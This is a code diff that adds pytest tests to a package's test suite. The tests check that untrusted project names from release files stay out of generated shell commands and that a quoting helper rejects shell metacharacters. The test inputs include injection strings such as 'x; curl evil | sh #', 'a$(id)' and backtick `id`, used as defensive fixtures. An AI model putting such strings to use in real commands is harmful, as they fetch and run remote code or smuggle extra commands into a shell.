@@ -315,6 +315,29 @@ def test_rivals_are_the_origins_that_nothing_of_ours_needs() -> None:
     assert picker.find_rivals(abacus_release(plugin, bindings)) == ("up-a", "up-a-kernels")
 
 
+@pytest.mark.parametrize("project", ["x; curl evil | sh #", "a$(id)", "-r evil.txt", HOSTILE])
+def test_what_is_no_name_of_a_project_is_in_no_command(project: str) -> None:
+    """A release file may be anybody's, and its commands are copied."""
+    plugin = entry_of(NAME, provenance={"project": project, "kernels": [{"project": project}, {"project": "up-a"}]})
+    assert picker.find_rivals(abacus_release(plugin)) == ("up-a",)
+
+
+@pytest.mark.parametrize("word", ["a$(id)==1", "`id`", "a&b", 'a"b', "a\\b", "a\nb"])
+def test_what_a_shell_reads_more_into_is_no_word(word: str) -> None:
+    """Within quotes as well."""
+    with pytest.raises(ValueError, match="no word for a shell"):
+        picker.quote(word)
+
+
+def test_the_script_has_the_functions_that_the_selector_uses() -> None:
+    """By its text; the browser's tests ask the script itself, and about methods too."""
+    script = (Path(selector_code.__file__).with_name("static") / "about.js").read_text("utf-8")
+    known = set(re.findall(r'[{,(\s](?:"([a-z_.]+\.[A-Za-z_]+)"|(\w+)):', script.partition("const BUILTINS = {")[2]))
+    used = set(re.findall(r'\["builtin", "([^"]+)"\]', json.dumps(selector_code.selector_code())))
+    assert len(used) > 20
+    assert used <= {dotted or plain for dotted, plain in known}
+
+
 def test_modules_of_several_pythons_are_one_change() -> None:
     """With what was changed in the first."""
     names = [f"a/_b.cpython-31{minor}-x86_64-linux-gnu.so" for minor in (2, 3)]
